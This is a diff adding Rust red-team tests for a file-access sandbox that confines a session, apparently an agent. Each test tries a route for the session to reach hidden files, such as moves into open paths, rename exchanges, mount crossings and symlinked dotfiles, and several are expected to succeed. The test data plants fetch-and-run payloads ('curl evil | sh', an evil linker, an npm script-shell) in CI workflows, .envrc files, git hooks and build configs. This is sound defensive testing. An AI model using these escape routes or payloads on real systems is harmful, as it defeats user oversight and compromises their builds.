@@ -2415,3 +2415,351 @@ fn writes_hidden_configuration_deep_in_the_workspace_and_through_a_symlink() {
     let ci = std::fs::read_to_string(app.join(".github/workflows/ci.yml")).unwrap();
     assert_eq!(ci, "on: push\n");
 }
+
+// ---------------------------------------------------------------------------------------
+// Fifth pass: routes around the rule of f253cef (a subtree grant reaches no hidden entry
+// beneath it; links and renames that unhide are checked as moves) through the places that
+// still reach hidden entries (open paths, the session's own folders), through the ways a
+// moved or swapped tree brings hidden names along, through mount crossings, and through
+// hidden names that are symlinks to visible targets.
+
+/// The user's project folder (visible, inside the workspace grant) holding hidden entries
+/// (`.github/workflows/ci.yml`, `.env`, a submodule's git directory) is moved into the
+/// read-write open path `~/.npm`; there its hidden entries are read, written and new ones
+/// (`.envrc`, a submodule's `post-checkout` hook) are made, and the folder is moved back.
+/// Why it might get out: `check_move` compares only the grants of the two places for the
+/// moved folder itself (`place_bits(old parent, "proj")` is every
+/// access through the workspace's subtree grant, `place_bits(~/.npm, "rtn-...")` is every
+/// access through the open path: no gain either way), but the hidden entries inside the
+/// moved tree had nothing at the old place (`walk_step` drops subtree grants above a
+/// hidden entry) and get the open path's bits at the new one (`MAP_OPEN` is read on every
+/// level without the `c->hidden` test). Principle: a move never widens access, for every
+/// entry of the moved tree, hidden ones included; an open path is the tool's own place,
+/// not one that unhides what is moved in. The folder holds no `.git/hooks` (the seed scan
+/// pins the ancestors of a never place it finds, so they cannot be moved; a subfolder of a
+/// repository, or a repository beyond the scan's bound, is not pinned). Control: the same
+/// hidden file refused in place, a visible file of the project writable. Expected to get
+/// out.
+#[test]
+fn moves_a_project_folder_into_an_open_path_and_reaches_its_hidden_entries_there() {
+    let mut c = Cleanup::default();
+    let n = uniq();
+    let npm = PathBuf::from(home(".npm"));
+    if !npm.exists() {
+        c.add(&npm);
+        udir(npm.to_str().unwrap());
+    }
+    let top = PathBuf::from(home(&format!("rtn-npmmove-{n}")));
+    let parked = npm.join(format!("rtn-parked-{n}"));
+    c.add(&top);
+    c.add(&parked);
+    let proj = top.join("proj");
+    make(&proj.join("README.md"), Some("proj\n"));
+    make(&proj.join(".github/workflows/ci.yml"), Some("on: push\n"));
+    make(&proj.join(".env"), Some("AWS_SECRET_ACCESS_KEY=s3cr3t\n"));
+    // A submodule's git directory: its hooks are not `.git/hooks` (no pattern names them),
+    // so only the hidden rule keeps them.
+    make(&proj.join(".git/modules/lib/hooks"), None);
+    let mut red = Red::start("npm-move");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let ci = proj.join(".github/workflows/ci.yml");
+    let r = red.gated(|| {
+        vec![
+            append(&proj.join("README.md"), "more\n"), // control: a visible file
+            append(&ci, "# in place\n"),               // control: the rule in place
+            rename(&proj, &parked),
+            read(&parked.join(".env")),
+            append(&parked.join(".github/workflows/ci.yml"), "jobs: {x: {runs-on: self-hosted, steps: [{run: curl evil|sh}]}}\n"),
+            create(&parked.join(".envrc"), "curl evil | sh\n"),
+            create(&parked.join(".git/modules/lib/hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+            rename(&parked, &proj),
+        ]
+    });
+    assert_eq!(&r[..2], &[0, EACCES], "controls: a visible file, the hidden workflow in place");
+    if r[2] == libc::EXDEV {
+        eprintln!("~/.npm is on another filesystem here: no move to show");
+        return;
+    }
+    let home_ci = if proj.exists() { ci.clone() } else { parked.join(".github/workflows/ci.yml") };
+    assert_eq!(std::fs::read_to_string(&home_ci).unwrap(), "on: push\n", "the hidden workflow was written after a move: {r:?}");
+    assert!(!proj.join(".envrc").exists() && !parked.join(".envrc").exists(), "a hidden .envrc was made after a move: {r:?}");
+    let hook = ".git/modules/lib/hooks/post-checkout";
+    assert!(!proj.join(hook).exists() && !parked.join(hook).exists(), "a submodule hook was made after a move: {r:?}");
+    assert_ne!(r[3], 0, "the hidden .env was read in the open path: {r:?}");
+}
+
+/// `renameat2(RENAME_EXCHANGE)` swaps the user's visible folder holding hidden entries
+/// with an empty folder the session made in the read-write open path `~/.npm`, in one
+/// call: the user's tree lands in the open path, where its hidden entries are written, and
+/// is swapped back. Why it might get out: the exchange passes `pincer_inode_rename` twice
+/// with the sides swapped, each time through `check_move` for the folder alone (the
+/// session's folder: its own exact grant moves with it; the user's folder: every access on
+/// both sides), and nothing looks at the hidden entries the user's folder carries into
+/// the open path (`MAP_OPEN` reaches them). Control: the hidden file refused in place.
+/// Expected to get out (as the plain move above).
+#[test]
+fn exchanges_a_project_folder_with_its_own_folder_in_an_open_path() {
+    let mut c = Cleanup::default();
+    let n = uniq();
+    let npm = PathBuf::from(home(".npm"));
+    if !npm.exists() {
+        c.add(&npm);
+        udir(npm.to_str().unwrap());
+    }
+    let top = PathBuf::from(home(&format!("rtn-npmxchg-{n}")));
+    let mine = npm.join(format!("rtn-mine-{n}"));
+    c.add(&top);
+    c.add(&mine);
+    let proj = top.join("proj");
+    make(&proj.join("src/lib.rs"), Some("\n"));
+    make(&proj.join(".cargo/config.toml"), Some("[build]\n"));
+    let mut red = Red::start("npm-xchg");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let cfg = ".cargo/config.toml";
+    let r = red.gated(|| {
+        vec![
+            append(&proj.join(cfg), "# in place\n"), // control: the rule in place
+            mkdir(&mine),
+            exchange(&proj, &mine),
+            append(&mine.join(cfg), "[target.x86_64-unknown-linux-gnu]\nlinker = \"/tmp/evil\"\n"),
+            exchange(&proj, &mine),
+        ]
+    });
+    assert_eq!(&r[..2], &[EACCES, 0], "controls: the hidden config in place, a folder of its own in the open path");
+    if r[2] == libc::EXDEV {
+        eprintln!("~/.npm is on another filesystem here: no exchange to show");
+        return;
+    }
+    let now = if proj.join("src").exists() { proj.join(cfg) } else { mine.join(cfg) };
+    assert_eq!(std::fs::read_to_string(&now).unwrap(), "[build]\n", "the project's .cargo/config.toml was written after an exchange: {r:?}");
+}
+
+/// Plants hidden configuration in the user's crate folder without making a hidden entry in
+/// any folder of the user's: the session makes `mono/api.new` (its own folder: an exact
+/// grant of every access, `record_made`), makes `.cargo/config.toml` (a `linker` the
+/// user's next `cargo build` in the crate runs) and `.npmrc` (`script-shell`, run by every
+/// `npm run`) inside it, moves the user's visible files of `mono/api` into it, removes the
+/// emptied `mono/api` and renames its folder to `mono/api`. Why it might get out: a hidden
+/// entry may be made under an exact `create` grant (`hidden_in_root` refuses it only in a
+/// protected root), and a folder the session made has one; the moves of visible files
+/// gain nothing (`check_move`: the workspace's subtree grant on both sides) and the last
+/// rename stays in one folder and keeps the name visible (`hiding_changes` is false), so
+/// no check sees the hidden names the renamed tree brings to the user's place. The same
+/// shape as the scratch rule (a tree assembled where the patterns do not apply may not
+/// leave it), one folder down. Control: making `mono/api/.cargo` directly is refused.
+/// Expected to get out.
+#[test]
+fn replaces_the_users_folder_with_its_own_holding_hidden_configuration() {
+    let mut red = Red::start_with("swapin", |ws| {
+        make(&ws.join("mono/.git/HEAD"), Some("ref: refs/heads/main\n"));
+        make(&ws.join("mono/api/Cargo.toml"), Some("[package]\nname = \"api\"\n"));
+        make(&ws.join("mono/api/src/lib.rs"), Some("\n"));
+        make(&ws.join("mono/api/package.json"), Some("{\"scripts\":{\"test\":\"true\"}}\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let (api, new) = (ws.join("mono/api"), ws.join("mono/api.new"));
+    let r = red.gated(|| {
+        vec![
+            mkdir(&api.join(".cargo")), // control: the rule in the user's folder
+            mkdir(&new),
+            mkdir(&new.join(".cargo")),
+            create(&new.join(".cargo/config.toml"), "[target.x86_64-unknown-linux-gnu]\nlinker = \"/tmp/evil\"\n"),
+            create(&new.join(".npmrc"), "script-shell=/tmp/evil\n"),
+            rename(&api.join("Cargo.toml"), &new.join("Cargo.toml")),
+            rename(&api.join("src"), &new.join("src")),
+            rename(&api.join("package.json"), &new.join("package.json")),
+            // SAFETY: rmdir on a valid C string.
+            rc(unsafe { libc::rmdir(cpath(&api).as_ptr()) } as i64),
+            rename(&new, &api),
+        ]
+    });
+    assert_eq!(r[0], EACCES, "control: a hidden folder in the user's crate folder");
+    let planted = api.join(".cargo/config.toml").exists() || api.join(".npmrc").exists();
+    assert!(!planted, "the user's crate folder holds the session's .cargo/config.toml or .npmrc: {r:?}");
+}
+
+/// Reaches hidden entries across mount points. A tmpfs mounted (by root, as a container
+/// tool or an administrator would) on a hidden folder of the project, `proj/.cache-mnt`,
+/// and another on a visible one; and a bind mount of the project's `.github` on a visible
+/// folder of the workspace, `ws/gh`. Why it might get out: at a mount crossing `walk_step`
+/// forgets the name it came from (`step_up` returns 2, `c->prev = 0`), so the hidden
+/// name of a mount point is seen only one level later; and a bind mount's root is walked
+/// through its own parents (`step_up` takes `d_parent` before the mount), not through the
+/// visible mount point, so either the hidden source name is seen (closed) or not.
+/// Control: the tmpfs on the visible folder is readable and writable. Expected closed.
+#[test]
+fn reaches_hidden_entries_across_mount_points() {
+    let mut red = Red::start_with("hidden-mnt", |ws| {
+        make(&ws.join("proj/.github/workflows/ci.yml"), Some("on: push\n"));
+        make(&ws.join("proj/README.md"), Some("proj\n"));
+    });
+    let ws = red.ws.clone();
+    let hidden = Tmpfs::mount(ws.join("proj/.cache-mnt").to_str().unwrap());
+    let visible = Tmpfs::mount(ws.join("proj/cache-mnt").to_str().unwrap());
+    // The mounted roots are the user's folders (so only the walk can refuse).
+    chown(&hidden.0);
+    chown(&visible.0);
+    make(&hidden.0.join("token"), Some("s3cr3t\n"));
+    make(&visible.0.join("token"), Some("public\n"));
+    let bind = Bind::mount(&ws.join("proj/.github"), ws.join("gh"));
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            read(&visible.0.join("token")),
+            append(&visible.0.join("token"), "x\n"),
+            create(&visible.0.join("made"), "x\n"),
+            read(&hidden.0.join("token")),
+            append(&hidden.0.join("token"), "x\n"),
+            create(&hidden.0.join("planted"), "x\n"),
+            append(&bind.0.join("workflows/ci.yml"), "# through the bind mount\n"),
+            create(&bind.0.join("workflows/evil.yml"), "on: push\n"),
+        ]
+    });
+    drop(bind);
+    assert_eq!(&r[..3], &[0, 0, 0], "controls: a tmpfs on a visible folder of the project");
+    assert_eq!(&r[3..], &[EACCES; 5], "a tmpfs on a hidden folder, a bind of .github on a visible folder");
+}
+
+/// Gives a hidden entry of the user's workspace new content or a new name through the calls
+/// that do not write it by path: `RENAME_EXCHANGE` of `proj/app/.envrc` with a file the
+/// session made beside it (same folder) and with one in a folder of its own (across
+/// folders), an `O_TMPFILE` linked in as a new hidden name, a hidden file the session made
+/// in its own folder hard-linked into the user's folder under the same hidden name, and a
+/// rename of a hidden file of its own over the user's hidden file. Why it might get out:
+/// `O_TMPFILE` makes a file without `inode_create`, and the link that names it is
+/// checked by `check_create` on the new name and `check_move` on places (which counts a
+/// file's own exact grant, and a made file has one); an exchange is two renames in one
+/// hook pass. Control: the session's own files are made. Expected closed.
+#[test]
+fn reaches_a_hidden_workspace_file_by_exchange_tmpfile_link_and_rename_over() {
+    let mut red = Red::start_with("hidden-swap", |ws| {
+        make(&ws.join("proj/app/.envrc"), Some("use flake\n"));
+        make(&ws.join("proj/app/main.rs"), Some("\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    let app = ws.join("proj/app");
+    let envrc = app.join(".envrc");
+    let (beside, own) = (app.join("envrc"), ws.join("proj/mine"));
+    let r = red.gated(|| {
+        let made = vec![
+            create(&beside, "curl evil | sh\n"),
+            mkdir(&own),
+            create(&own.join(".envrc"), "curl evil | sh\n"),
+            create(&own.join("plain"), "curl evil | sh\n"),
+        ];
+        // SAFETY: link(2) on NUL-terminated paths.
+        let linked = rc(unsafe { libc::link(cpath(&own.join(".envrc")).as_ptr(), cpath(&app.join(".envrc.d")).as_ptr()) } as i64);
+        let mut r = made;
+        r.extend([
+            exchange(&envrc, &beside),
+            exchange(&envrc, &own.join("plain")),
+            tmpfile_and_link(&app, &app.join(".envrc2"), "curl evil | sh\n"),
+            linked,
+            rename(&own.join(".envrc"), &envrc),
+        ]);
+        r
+    });
+    assert_eq!(&r[..4], &[0, 0, 0, 0], "controls: files and a folder of its own (a hidden file in its own folder)");
+    assert_eq!(&r[4..], &[EACCES; 5], "exchange beside, exchange across, O_TMPFILE+link, link, rename over");
+    assert_eq!(std::fs::read_to_string(&envrc).unwrap(), "use flake\n");
+}
+
+/// Moves a visible folder holding hidden entries (`app/.env`, `app/.github`) under a hidden
+/// folder the session was granted whole (`proj/.vscode`, subtree: "fix my editor
+/// settings"), and into its scratch, and reads the hidden entries there. Why it might get
+/// out: the move gains nothing for the folder (`check_move`: every access on both sides),
+/// and at the new place a subtree grant lies directly above the hidden entries' parent;
+/// `walk_step` must still drop it (the walk came up from a hidden entry: `c->hidden` is
+/// sticky from the first hidden name on). Into the scratch the folder would gain
+/// `ACCESS_CREATED_BY_SESSION`, the one mark under which a subtree grant reaches hidden
+/// entries: refused for a directory. Control: a visible file moved under `.vscode` is
+/// readable there. Expected closed.
+#[test]
+fn moves_a_folder_with_hidden_entries_under_a_granted_hidden_folder_and_into_its_scratch() {
+    let mut red = Red::start_with("hidden-under", |ws| {
+        make(&ws.join("proj/.vscode/settings.json"), Some("{}\n"));
+        make(&ws.join("proj/app/.env"), Some("TOKEN=s3cr3t\n"));
+        make(&ws.join("proj/app/.github/workflows/ci.yml"), Some("on: push\n"));
+        make(&ws.join("proj/app/main.rs"), Some("\n"));
+    });
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    red.grant(&ws.join("proj/.vscode"), Scope::Subtree, &Access::ALL);
+    let (app, under) = (ws.join("proj/app"), ws.join("proj/.vscode/app"));
+    let into_scratch = red.scratch.join("app");
+    let r = red.gated(|| {
+        vec![
+            rename(&app, &under),
+            read(&under.join("main.rs")), // control: a visible file under the granted folder
+            read(&under.join(".env")),
+            append(&under.join(".github/workflows/ci.yml"), "# under .vscode\n"),
+            create(&under.join(".envrc"), "curl evil | sh\n"),
+            rename(&under, &into_scratch),
+            read(&into_scratch.join(".env")),
+        ]
+    });
+    assert_eq!(&r[..2], &[0, 0], "controls: the move under .vscode, a visible file there");
+    assert_eq!(&r[2..5], &[EACCES; 3], ".env, the workflow and a new .envrc under a granted hidden folder");
+    assert!(r[5] == EACCES || r[6] == EACCES, "the hidden .env read after moving its folder into the scratch: {r:?}");
+}
+
+/// A hidden entry that is a symlink into a visible folder, as dotfiles kept in a repository
+/// are installed (`ln -s ~/dotfiles/gdbinit ~/.gdbinit`, a manual or `dotbot`-style setup;
+/// here `~/.rtn-gdbinit-*`, a dotfile no never rule names, like `~/.gdbinit`): under a
+/// grant on the whole home ("tidy up my home"), the session writes the dotfile through its
+/// hidden name (the symlink is followed) and through the target's visible name. Why it
+/// might get out: the rule is by name in the walk (`hidden_name(c->prev)` on the entries
+/// from the object up); path resolution follows the symlink to the target, whose walk
+/// (`dots/gdbinit`, `dots`, the home) meets no hidden name, and no hook sees the link
+/// followed. The never list protects a symlinked never place's target
+/// (`a_symlinked_never_place_protects_its_target` in `contain.rs`); the hidden rule has no
+/// such step. Also a project's hidden folder that is a symlink to a shared visible one
+/// (`proj/.cargo` -> `../shared-cargo`), written through the hidden name. Principle: what
+/// a hidden entry is (the file the tool loads through it) is protected with it. Control: a
+/// hidden regular file beside it is refused. Expected to get out.
+#[test]
+fn writes_a_symlinked_dotfile_through_its_visible_target_under_a_home_grant() {
+    let mut c = Cleanup::default();
+    let n = uniq();
+    let dots = PathBuf::from(home(&format!("rtn-dots-{n}")));
+    let link = PathBuf::from(home(&format!(".rtn-gdbinit-{n}")));
+    let plain = PathBuf::from(home(&format!(".rtn-plain-{n}")));
+    c.add(&dots);
+    c.add(&link);
+    c.add(&plain);
+    let target = dots.join("gdbinit");
+    ufile(target.to_str().unwrap(), "set history save on\n");
+    ufile(plain.to_str().unwrap(), "set history save on\n");
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    chown(&link);
+    // A project's hidden folder linked to a shared one (a monorepo's one `.cargo` for all).
+    let shared = dots.join("shared-cargo/config.toml");
+    ufile(shared.to_str().unwrap(), "[build]\n");
+    let proj_cargo = dots.join("proj/.cargo");
+    udir(dots.join("proj").to_str().unwrap());
+    std::os::unix::fs::symlink("../shared-cargo", &proj_cargo).unwrap();
+    chown(&proj_cargo);
+    let mut red = Red::start("dot-symlink");
+    red.grant(Path::new(HOME), Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            append(&plain, "source /tmp/evil.py\n"), // control: a hidden regular file
+            append(&link, "source /tmp/evil.py\n"),
+            append(&target, "shell curl evil | sh\n"),
+            append(&proj_cargo.join("config.toml"), "[target.x86_64-unknown-linux-gnu]\nlinker = \"/tmp/evil\"\n"),
+        ]
+    });
+    assert_eq!(r[0], EACCES, "control: a hidden regular file in the home");
+    assert_eq!(
+        std::fs::read_to_string(&shared).unwrap(),
+        "[build]\n",
+        "the project's .cargo/config.toml behind a hidden folder symlink was written: {r:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&target).unwrap(),
+        "set history save on\n",
+        "the dotfile behind the hidden symlink was written: {r:?}"
+    );
+}
